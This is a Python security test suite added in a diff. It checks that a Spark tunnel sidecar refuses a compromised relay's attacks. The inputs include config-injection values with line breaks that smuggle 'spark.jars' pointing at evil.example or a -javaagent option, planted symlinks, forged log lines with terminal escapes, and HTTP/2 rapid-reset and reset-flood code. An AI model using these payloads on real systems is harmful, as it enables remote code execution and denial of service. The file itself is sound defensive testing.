@@ -1,0 +1,577 @@
+"""The sidecar does not trust the relay: a relay holding a certificate the
+sidecar trusts (a compromised relay, played by fake_relay.py) can neither
+reach into the notebook nor forge what the notebook reads.
+
+- control values are refused at the door: a line break in the lease's host or
+  lease id never becomes a Spark setting; nothing is written;
+- one lease per tunnel, only the roles asked for, distinct ports;
+- an executor stream only on a tunnel that holds the lease, naming that lease
+  (the header is required) and one of its ports, only ever 127.0.0.1;
+- the files are written through fresh temporary files, never through a
+  symlink or a file someone planted;
+- relay-chosen text is escaped in the sidecar's log;
+- streams reset before they are answered (rapid reset) are bounded, and so
+  are resets in general;
+- the notebook start-up script merges only the settings a lease defines.
+"""
+
+import ast
+import os
+import signal
+import socket
+import stat
+import struct
+import subprocess
+import sys
+import threading
+import time
+import unittest
+
+sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
+import harness as H  # noqa: E402
+import harness_extra as X  # noqa: E402
+import fake_relay as FR  # noqa: E402
+import fake_sidecar as F  # noqa: E402
+
+REPO = os.path.dirname(os.path.dirname(os.path.dirname(os.path.abspath(__file__))))
+START_SCRIPT = os.path.join(REPO, "docker", "notebook", "start-sparkrelay.sh")
+ROLES = ["blockManager", "driver"]
+INJECTED_KEYS = ("spark.jars", "spark.plugins", "spark.driver.extraJavaOptions",
+                 "spark.authenticate")
+
+
+class Listener:
+    """A stand-in driver port on 127.0.0.1 that only counts connections."""
+
+    def __init__(self, port=0):
+        self.ls = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
+        self.ls.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
+        self.ls.bind((H.DRIVER_HOST, port))
+        self.ls.listen(4096)
+        self.ls.settimeout(0.1)
+        self.port = self.ls.getsockname()[1]
+        self.count = 0
+        self.stopping = False
+        self.t = threading.Thread(target=self._loop, daemon=True, name="listener")
+        self.t.start()
+
+    def _loop(self):
+        while not self.stopping:
+            try:
+                s, _ = self.ls.accept()
+            except socket.timeout:
+                continue
+            except OSError:
+                return
+            self.count += 1
+            s.close()
+
+    def settle(self, quiet=0.3, timeout=5.0):
+        """Wait until no new connection came for `quiet` seconds; the count."""
+        deadline = time.monotonic() + timeout
+        last, since = self.count, time.monotonic()
+        while time.monotonic() < deadline:
+            time.sleep(0.05)
+            if self.count != last:
+                last, since = self.count, time.monotonic()
+            elif time.monotonic() - since >= quiet:
+                break
+        return self.count
+
+    def close(self):
+        self.stopping = True
+        self.t.join(2)
+        self.ls.close()
+
+
+class TrustCase(unittest.TestCase):
+    """The real sidecar against a fake relay. Teardown: the sidecar must still
+    run, exit 0 on SIGTERM, and log no sanitizer report and no line outside
+    the log format."""
+
+    tunnel_overrides = None
+
+    def setUp(self):
+        if H.DIRECT:
+            self.skipTest("needs the sparkrelay binary")
+        if not H.BIN or not os.access(H.BIN, os.X_OK):
+            raise H.HarnessError("SPARKRELAY_BIN is not set to an executable")
+        self.dir = H.new_dir(self.id())
+        self.fr = FR.FakeRelay(H.certs()).start()
+        self.addCleanup(self.fr.stop)
+        over = H.deep_merge({"tunnel": {"release_timeout_ms": 300}}, self.tunnel_overrides)
+        cfg = H.tunnel_config(self.fr.port, self.dir, over)
+        t = cfg["tunnel"]
+        self.spark_conf, self.spark_json, self.state = (t["spark_conf"], t["spark_json"],
+                                                        t["state_file"])
+        path = H.write_config(os.path.join(self.dir, "tunnel.json"), cfg)
+        self.proc = H.Proc("tunnel", [H.BIN, "tunnel", "--config", path], self.dir)
+        self.listeners = []
+        self.prepare()
+        self.proc.start()
+        self.addCleanup(self.proc.kill)
+
+    def prepare(self):
+        """Before the sidecar starts (it dials the fake relay at once)."""
+
+    def tearDown(self):
+        failed = H._test_failed(self)
+        problems = []
+        for l in self.listeners:
+            l.close()
+        if not self.proc.alive():
+            problems.append("sidecar died during the test (rc=%s)" % self.proc.p.returncode)
+        else:
+            rc = self.proc.stop(15)
+            if rc != 0:
+                problems.append("sidecar exited %s after SIGTERM (expected 0)" % rc)
+        san = self.proc.sanitizer_lines()
+        if san:
+            problems.append("sidecar sanitizer report: %s" % san[0].strip())
+        bad = self.proc.malformed_lines()
+        if bad:
+            problems.append("%d sidecar log lines not in the log format, first: %r" %
+                            (len(bad), bad[0][:160]))
+        if failed or problems:
+            H._any_failure = True
+            self.proc.dump()
+            sys.stderr.write("(test dir %s)\n" % self.dir)
+        if problems:
+            self.fail("; ".join(problems))
+
+    # -- helpers
+    def listener(self, port=0):
+        l = Listener(port)
+        self.listeners.append(l)
+        return l
+
+    def leased(self, s, msg, timeout=10):
+        """Send a lease; wait until the sidecar wrote it to spark_json."""
+        s.send_ctl(msg)
+        j = X.wait_for(lambda: (lambda d: d if isinstance(d, dict) and
+                                d.get("lease") == msg["lease"] else None)(
+            H.read_spark_json(self.spark_json)), timeout)
+        self.assertIsNotNone(j, "the sidecar did not take lease %s" % msg["lease"])
+        return j
+
+    def assert_closed(self, s, what, timeout=5):
+        end, _ = s.wait_closed(timeout)
+        self.assertNotEqual(end, "timeout", "%s: the sidecar kept the tunnel open" % what)
+        s.close()
+
+    def assert_nothing_written(self):
+        for p in (self.spark_conf, self.spark_json, self.state):
+            self.assertFalse(os.path.lexists(p), "%s was written" % p)
+
+    def file_lines(self):
+        """(name, line) of every file in the test directory (logs included)."""
+        out = []
+        for name in sorted(os.listdir(self.dir)):
+            p = os.path.join(self.dir, name)
+            if not os.path.isfile(p):
+                continue
+            with open(p, "rb") as f:
+                text = f.read().decode("utf-8", "replace")
+            out.extend((name, l) for l in text.replace("\r", "\n").split("\n"))
+        return out
+
+
+def two_ports():
+    a = H.free_port()
+    b = H.free_port()
+    while b == a:
+        b = H.free_port()
+    return a, b
+
+
+class ControlValueTest(TrustCase):
+
+    def test_line_break_in_host_or_lease_id_writes_nothing(self):
+        evil = [
+            ("LF in host", FR.lease_msg(host="relay.example\nspark.jars http://evil.example/x.jar")),
+            ("CRLF in host", FR.lease_msg(host="10.0.0.5\r\nspark.plugins evil.Plugin")),
+            ("LF in lease id", FR.lease_msg(
+                lease="L-1\nspark.driver.extraJavaOptions -javaagent:/tmp/x.jar")),
+            ("CR in lease id", FR.lease_msg(lease="L-1\rspark.authenticate false")),
+        ]
+        for what, msg in evil:
+            s, reg = self.fr.session(15)
+            s.send_ctl(msg)
+            self.assert_closed(s, what)
+        self.assert_nothing_written()
+        for name, line in self.file_lines():
+            self.assertFalse(line.lstrip().startswith(INJECTED_KEYS),
+                             "%s has an injected line: %r" % (name, line))
+        self.assertEqual(len(self.proc.grep("bad control message")), len(evil),
+                         "the sidecar did not log each message as bad")
+        self.assertTrue(self.proc.grep("not a host name or IP address"))
+        self.assertTrue(self.proc.grep("not a lease id"))
+        self.assertTrue(self.proc.grep("the relay broke the protocol"))
+        self.assertFalse(self.proc.grep("lease granted"))
+
+
+class LeaseStateTest(TrustCase):
+
+    def test_lease_grants_exactly_the_roles_asked_for(self):
+        p1, p2 = two_ports()
+        cases = [
+            ("an extra ui port", {"driver": p1, "blockManager": p2, "ui": 4040},
+             "lease grants roles driver,blockManager,ui, registered for driver,blockManager"),
+            ("blockManager missing", {"driver": p1},
+             "lease grants roles driver, registered for driver,blockManager"),
+            ("one port for two roles", {"driver": p1, "blockManager": p1}, "share port"),
+        ]
+        for what, ports, log in cases:
+            s, reg = self.fr.session(15)
+            self.assertEqual(sorted(reg["roles"]), ROLES)
+            s.send_ctl(FR.lease_msg(ports=ports))
+            self.assert_closed(s, what)
+            self.assertTrue(X.wait_log(self.proc, log, 5), "%s: no %r in the log" % (what, log))
+        self.assert_nothing_written()
+        self.assertEqual(len(self.proc.grep("protocol error from the relay")), 2)
+
+    def test_second_lease_ends_the_tunnel(self):
+        p1, p2 = two_ports()
+        s, reg = self.fr.session(15)
+        j = self.leased(s, FR.lease_msg(lease="L-1-aaaaaaaa", ports={"driver": p1,
+                                                                      "blockManager": p2}))
+        self.assertEqual(j["ports"], {"driver": p1, "blockManager": p2})
+        s.send_ctl(FR.lease_msg(lease="L-2-bbbbbbbb", host="127.0.0.3",
+                                ports={"driver": p1 + 1, "blockManager": p2 + 1}))
+        self.assert_closed(s, "second lease")
+        self.assertTrue(X.wait_log(self.proc, "a second lease on this tunnel", 5))
+        time.sleep(0.3)
+        j = H.read_spark_json(self.spark_json)
+        self.assertEqual((j["lease"], j["host"], j["ports"]),
+                         ("L-1-aaaaaaaa", "127.0.0.2", {"driver": p1, "blockManager": p2}),
+                         "the second lease changed the Spark settings")
+        with open(self.spark_conf) as f:
+            conf = f.read()
+        self.assertIn("spark.driver.port %d\n" % p1, conf)
+        self.assertNotIn("127.0.0.3", conf)
+
+    def test_released_without_release_is_refused(self):
+        p1, p2 = two_ports()
+        s, reg = self.fr.session(15)
+        self.leased(s, FR.lease_msg(ports={"driver": p1, "blockManager": p2}))
+        self.assertTrue(os.path.exists(self.state))
+        s.send_ctl({"v": 1, "type": "released"})
+        self.assert_closed(s, "unasked released")
+        self.assertTrue(X.wait_log(self.proc, "\"released\" without a release", 5))
+        # The lease is kept: the next tunnel asks to resume it.
+        s2, reg2 = self.fr.session(15)
+        self.assertEqual(reg2.get("resume"), "0123456789abcdef")
+        self.assertTrue(os.path.exists(self.state))
+
+
+class ConnectTest(TrustCase):
+    LEASE = "L-5-0a0a0a0a"
+
+    def test_streams_need_the_lease_of_this_tunnel(self):
+        drv, bm, other = self.listener(), self.listener(), self.listener()
+        ports = {"driver": drv.port, "blockManager": bm.port}
+        s, reg = self.fr.session(15)
+        self.assertEqual(s.wait_stream(s.connect(drv.port, lease=self.LEASE)),
+                         ("reset", FR.REFUSED_STREAM), "a stream before any lease")
+        self.leased(s, FR.lease_msg(lease=self.LEASE, ports=ports))
+        refused = [
+            ("no lease header", dict(lease=None)),
+            ("another lease id", dict(lease="L-6-0a0a0a0a")),
+            ("a lease id of another shape", dict(lease="L-5-0a0a0a0a\nx")),
+            ("a port not leased", dict(port=other.port, lease=self.LEASE)),
+            ("a connection id that is not digits", dict(lease=self.LEASE, conn="12x")),
+            ("no connection id", dict(lease=self.LEASE, conn=None)),
+            ("localhost", dict(lease=self.LEASE, authority="localhost:%d" % drv.port)),
+            ("another host", dict(lease=self.LEASE, authority="127.0.0.2:%d" % drv.port)),
+        ]
+        for what, kw in refused:
+            kw.setdefault("port", drv.port)
+            r = s.wait_stream(s.connect(**kw))
+            self.assertEqual(r[0], "reset", "%s: %r" % (what, r))
+            # nghttp2 itself refuses a line break in a header value
+            self.assertIn(r[1], (FR.REFUSED_STREAM, 1) if "\n" in str(kw.get("lease")) else
+                          (FR.REFUSED_STREAM,), what)
+        self.assertEqual(s.wait_stream(s.connect(bm.port, lease=self.LEASE)), ("ok", None),
+                         "the right lease and port were refused")
+        self.assertEqual(bm.settle(), 1)
+        self.assertEqual((drv.settle(), other.count), (0, 0),
+                         "a refused stream reached a listening port")
+        self.assertTrue(self.proc.grep("no sparkrelay-lease header"))
+
+        # A new tunnel: the lease is ours from before, but not yet granted on
+        # this tunnel, so its streams are refused until the relay resumes it.
+        s.close()
+        s2, reg2 = self.fr.session(15)
+        self.assertEqual(reg2.get("resume"), "0123456789abcdef")
+        self.assertEqual(s2.wait_stream(s2.connect(drv.port, lease=self.LEASE)),
+                         ("reset", FR.REFUSED_STREAM), "a stream on a tunnel before its lease")
+        self.assertEqual(drv.settle(), 0)
+        self.assertTrue(self.proc.grep("no lease on this tunnel yet"))
+        s2.send_ctl(FR.lease_msg(lease=self.LEASE, ports=ports))
+        self.assertTrue(X.wait_log(self.proc, "lease resumed", 5))
+        self.assertEqual(s2.wait_stream(s2.connect(drv.port, lease=self.LEASE)), ("ok", None))
+        self.assertEqual(drv.settle(), 1)
+
+
+class PlantedFileTest(TrustCase):
+
+    def prepare(self):
+        d = os.path.join(H.root_dir(), "victims-" + os.path.basename(self.dir))
+        os.makedirs(d)
+        self.victim = os.path.join(d, "victim")
+        self.victim2 = os.path.join(d, "victim2")
+        for p in (self.victim, self.victim2):
+            with open(p, "w") as f:
+                f.write("precious\n")
+            os.chmod(p, 0o644)
+
+    def test_planted_symlinks_and_files_are_not_written_through(self):
+        pid = self.proc.p.pid
+        # Where the sidecar used to put its temporary files ("<path>.tmp.<pid>"):
+        os.symlink(self.victim, "%s.tmp.%d" % (self.state, pid))
+        os.symlink(self.victim, "%s.tmp.%d" % (self.spark_json, pid))
+        planted = "%s.tmp.%d" % (self.spark_conf, pid)
+        with open(planted, "w") as f:
+            f.write("planted\n")
+        os.chmod(planted, 0o666)
+        # and a symlink at the path itself
+        os.symlink(self.victim2, self.spark_conf)
+
+        p1, p2 = two_ports()
+        s, reg = self.fr.session(15)
+        self.leased(s, FR.lease_msg(ports={"driver": p1, "blockManager": p2}))
+        self.assertTrue(X.wait_for(lambda: os.path.exists(self.state), 5))
+        for v in (self.victim, self.victim2):
+            with open(v) as f:
+                self.assertEqual(f.read(), "precious\n", "%s was written through" % v)
+        for p, mode in ((self.spark_conf, 0o644), (self.spark_json, 0o644), (self.state, 0o600)):
+            st = os.lstat(p)
+            self.assertTrue(stat.S_ISREG(st.st_mode), "%s is not a regular file" % p)
+            self.assertEqual(st.st_uid, os.getuid())
+            self.assertEqual(stat.S_IMODE(st.st_mode), mode, "%s: mode %o" % (p, st.st_mode))
+        with open(self.spark_conf) as f:
+            self.assertIn("spark.driver.port %d\n" % p1, f.read())
+        with open(planted) as f:
+            self.assertEqual(f.read(), "planted\n")
+        # nothing else of ours left behind
+        left = [n for n in os.listdir(self.dir) if ".tmp-" in n]
+        self.assertEqual(left, [])
+
+
+class LogEscapeTest(TrustCase):
+    RLO = "\u202e"  # right-to-left override: reorders what a terminal shows
+
+    def test_relay_text_is_escaped_in_the_log(self):
+        drv, other = self.listener(), self.listener()
+        s, reg = self.fr.session(15)
+        self.leased(s, FR.lease_msg(lease="L-7-0b0b0b0b",
+                                    ports={"driver": drv.port, "blockManager": H.free_port()}))
+        peer = "10.0.0.9:1" + self.RLO + "\"q\\"
+        self.assertEqual(s.wait_stream(s.connect(drv.port, lease="L-7-0b0b0b0b", peer=peer)),
+                         ("ok", None))
+        self.assertEqual(s.wait_stream(s.connect(other.port, lease="L-7-0b0b0b0b", peer=peer)),
+                         ("reset", FR.REFUSED_STREAM))
+        forged = "2026-01-01T00:00:00.000Z INFO  [tunnel] lease granted: forged"
+        s.send_ctl({"v": 1, "type": "error", "code": "revoked",
+                    "message": "bye\n" + forged + self.RLO + "\x1b[2J"})
+        self.assert_closed(s, "error")
+        self.assertTrue(X.wait_log(self.proc, "relay refused registration: revoked", 5))
+        with open(self.proc.log_path, "rb") as f:
+            raw = f.read()
+        self.assertNotIn(self.RLO.encode(), raw, "a relay-chosen character reached the log raw")
+        self.assertNotIn(b"\x1b", raw)
+        text = raw.decode()
+        self.assertIn("\\xe2\\x80\\xae", text)
+        self.assertTrue(any("\\\"q\\\\" in l for l in self.proc.grep("refused stream")),
+                        "the refusal does not show the escaped peer")
+        for line in text.splitlines():
+            self.assertFalse(line.startswith("2026-01-01"), "forged log line: %r" % line)
+
+
+class RapidResetTest(TrustCase):
+    SECONDS = 2.0
+    BATCH = 64
+    # SC_EARLY_RST_BURST + SC_EARLY_RST_RATE x the attack's 2 s, with slack
+    # for a first batch in flight when the tunnel ends.
+    MAX_CONNECTS = 200 + 20 * 2 + 2 * BATCH
+
+    def test_rapid_reset_is_bounded(self):
+        drv = self.listener()
+        lease = "L-8-0c0c0c0c"
+        s, reg = self.fr.session(15)
+        self.leased(s, FR.lease_msg(lease=lease,
+                                    ports={"driver": drv.port, "blockManager": H.free_port()}))
+        pid = self.proc.p.pid
+        fds_before = len(os.listdir("/proc/%d/fd" % pid))
+        block = s.connect_headers(drv.port, lease=lease, conn="1")
+        rst = struct.pack("!I", FR.CANCEL)
+        pairs = 0
+        t0 = time.monotonic()
+        while time.monotonic() - t0 < self.SECONDS and not s.closed:
+            batch = []
+            for _ in range(self.BATCH):
+                sid = s.new_stream_id()
+                batch.append(F.frame(F.HEADERS, F.FLAG_END_HEADERS, sid, block))
+                batch.append(F.frame(F.RST_STREAM, 0, sid, rst))
+            try:
+                s.sendall(b"".join(batch))
+            except OSError:
+                break
+            pairs += self.BATCH
+            s.pump(0)
+        took = time.monotonic() - t0
+        connects = drv.settle(quiet=0.5)
+        sys.stderr.write("[it] rapid reset: %d HEADERS+RST_STREAM pairs in %.2f s made %d "
+                         "driver connects\n" % (pairs, took, connects))
+        self.assertLessEqual(connects, self.MAX_CONNECTS,
+                             "%d of %d reset streams reached the driver" % (connects, pairs))
+        self.assert_closed(s, "rapid reset")
+        self.assertTrue(X.wait_log(self.proc, "(rapid reset)", 5))
+        # Nothing left behind: the sidecar is back to its sockets of before
+        # (plus at most its next tunnel being dialled).
+        fds = X.wait_for(lambda: (lambda n: n if n <= fds_before + 1 else None)(
+            len(os.listdir("/proc/%d/fd" % pid))), 10)
+        self.assertIsNotNone(fds, "the sidecar holds %d descriptors, %d before the attack" %
+                             (len(os.listdir("/proc/%d/fd" % pid)), fds_before))
+
+
+class ResetFloodTest(TrustCase):
+    # nghttp2's incoming-reset bucket on the sidecar (SC_RST_BURST) and a
+    # margin for its refill while the flood is read.
+    FLOOD = 10000 + 2000
+
+    def test_reset_flood_ends_the_tunnel(self):
+        """RST_STREAM frames past the sidecar's bound end the tunnel (they
+        used to be accepted without limit)."""
+        drv, other = self.listener(), self.listener()
+        lease = "L-9-0d0d0d0d"
+        s, reg = self.fr.session(15)
+        self.leased(s, FR.lease_msg(lease=lease,
+                                    ports={"driver": drv.port, "blockManager": H.free_port()}))
+        sid = s.connect(other.port, lease=lease)
+        self.assertEqual(s.wait_stream(sid), ("reset", FR.REFUSED_STREAM))
+        # Resets of a stream already closed cost the relay 13 bytes each and
+        # the sidecar no connect: only the rate limit can stop them.
+        rst = F.frame(F.RST_STREAM, 0, sid, struct.pack("!I", FR.CANCEL))
+        sent = 0
+        while sent < self.FLOOD and not s.closed:
+            try:
+                s.sendall(rst * 500)
+            except OSError:
+                break
+            sent += 500
+            s.pump(0)
+        self.assert_closed(s, "reset flood", timeout=10)
+        self.assertEqual(s.goaway, 2, "no GOAWAY(INTERNAL_ERROR) before the close")
+        self.assertTrue(X.wait_log(self.proc, "relay broke HTTP/2 (sent GOAWAY", 5))
+        self.assertEqual(other.count, 0)
+
+
+class StartScriptTest(unittest.TestCase):
+    """docker/notebook/start-sparkrelay.sh with a stand-in sidecar binary that
+    writes a given fragment: only a lease's settings are merged."""
+
+    GOOD = ("# Written by sparkrelay for lease L-1-0a1b2c3d. Do not edit.\n"
+            "spark.driver.host relay-0.example\n"
+            "spark.driver.bindAddress 127.0.0.1\n"
+            "spark.driver.port 40001\n"
+            "spark.driver.blockManager.port 40002\n"
+            "spark.port.maxRetries 0\n"
+            "spark.kubernetes.executor.useDriverPodIP false\n")
+    ORIGINAL = "spark.executor.memory 4g\nspark.driver.port=1234\n"
+    FAKE_BIN = ("#!/bin/sh\n"
+                "cat \"$FAKE_FRAGMENT\" >\"$SPARKRELAY_TUNNEL_SPARK_CONF\"\n"
+                "echo '{\"lease\": \"L-1-0a1b2c3d\", \"ports\": {}}' "
+                ">\"$SPARKRELAY_TUNNEL_SPARK_JSON\"\n"
+                "exec sleep 20\n")
+
+    def run_script(self, fragment, conf_dir_name="spark-conf"):
+        d = H.new_dir(self.id())
+        home = os.path.join(d, "home")
+        conf_dir = os.path.join(d, conf_dir_name)
+        os.makedirs(home)
+        os.makedirs(conf_dir)
+        with open(os.path.join(conf_dir, "spark-defaults.conf"), "w") as f:
+            f.write(self.ORIGINAL)
+        fake = os.path.join(d, "sparkrelay")
+        with open(fake, "w") as f:
+            f.write(self.FAKE_BIN)
+        os.chmod(fake, 0o755)
+        frag = os.path.join(d, "fragment")
+        with open(frag, "w") as f:
+            f.write(fragment)
+        env = {k: v for k, v in os.environ.items() if not k.startswith(("SPARK", "SPARKRELAY"))}
+        env.update(HOME=home, SPARK_CONF_DIR=conf_dir, SPARKRELAY_BIN=fake,
+                   SPARKRELAY_WAIT_S="10", FAKE_FRAGMENT=frag)
+        pidfile = os.path.join(home, ".sparkrelay", "sparkrelay.pid")
+        try:
+            r = subprocess.run(["bash", START_SCRIPT, "start"], env=env, capture_output=True,
+                               text=True, timeout=30, stdin=subprocess.DEVNULL)
+        finally:
+            try:
+                with open(pidfile) as f:
+                    os.kill(int(f.read().strip()), signal.SIGKILL)
+            except (OSError, ValueError):
+                pass
+        with open(os.path.join(conf_dir, "spark-defaults.conf")) as f:
+            conf = f.read()
+        return r, conf, home, conf_dir
+
+    def test_only_lease_settings_are_merged(self):
+        bad = [
+            ("an unexpected key", self.GOOD + "spark.jars http://evil.example/x.jar\n"),
+            ("a key that runs code", self.GOOD.replace(
+                "spark.port.maxRetries 0\n", "spark.driver.extraJavaOptions -javaagent:x\n")),
+            ("a tab in the host", self.GOOD.replace("relay-0.example",
+                                                    "relay-0.example\tspark.jars x")),
+            ("two values", self.GOOD.replace("relay-0.example", "relay spark.jars=x")),
+            ("a port out of range", self.GOOD.replace("40001", "99999")),
+            ("a key twice", self.GOOD + "spark.driver.port 40003\n"),
+            ("a leading blank", self.GOOD + " spark.jars x\n"),
+            ("another separator", self.GOOD.replace("spark.driver.port 40001",
+                                                    "spark.driver.port=40001")),
+            ("another bind address", self.GOOD.replace("127.0.0.1", "0.0.0.0")),
+            ("maxRetries not 0", self.GOOD.replace("maxRetries 0", "maxRetries 16")),
+            ("a CR", self.GOOD.replace("40002\n", "40002\rspark.jars x\n")),
+            ("a missing setting", self.GOOD.replace("spark.port.maxRetries 0\n", "")),
+        ]
+        for what, frag in bad:
+            with self.subTest(what):
+                r, conf, _, _ = self.run_script(frag)
+                self.assertNotEqual(r.returncode, 0, "%s: merged (%s)" % (what, r.stderr))
+                self.assertEqual(conf, self.ORIGINAL, "%s: spark-defaults.conf changed" % what)
+                self.assertIn("nothing merged", r.stderr)
+                self.assertNotIn("spark.jars", r.stderr)
+
+    def test_lease_settings_are_merged(self):
+        r, conf, home, conf_dir = self.run_script(self.GOOD + "spark.ui.port 4041\n")
+        self.assertEqual(r.returncode, 0, r.stderr)
+        lines = conf.splitlines()
+        self.assertIn("spark.executor.memory 4g", lines)
+        self.assertEqual([l for l in lines if l.startswith("spark.driver.port")],
+                         ["spark.driver.port 40001"])
+        for l in self.GOOD.splitlines()[1:] + ["spark.ui.port 4041"]:
+            self.assertIn(l, lines)
+        # the unrelated line, the block's two markers, its 7 settings: nothing else
+        self.assertEqual(len(lines), 1 + 2 + 7, conf)
+
+    def test_ipython_hook_takes_paths_as_literals(self):
+        name = "conf \"dir\\\" ) ; import sys #"
+        r, conf, home, conf_dir = self.run_script(self.GOOD, conf_dir_name=name)
+        self.assertEqual(r.returncode, 0, r.stderr)
+        hook = os.path.join(home, ".ipython", "profile_default", "startup", "00-sparkrelay.py")
+        with open(hook) as f:
+            tree = ast.parse(f.read())
+        values = {}
+        for node in ast.walk(tree):
+            if isinstance(node, ast.Call) and getattr(node.func, "attr", "") == "setdefault":
+                values[node.args[0].value] = node.args[1].value
+        self.assertEqual(values.get("SPARK_CONF_DIR"), conf_dir)
+        self.assertEqual(values.get("SPARKRELAY_SPARK_JSON"),
+                         os.path.join(home, ".sparkrelay", "spark.json"))
+        imports = [n for n in ast.walk(tree) if isinstance(n, (ast.Import, ast.ImportFrom))]
+        self.assertEqual([a.name for n in imports for a in n.names], ["os"])
+
+
+if __name__ == "__main__":
+    H.main()
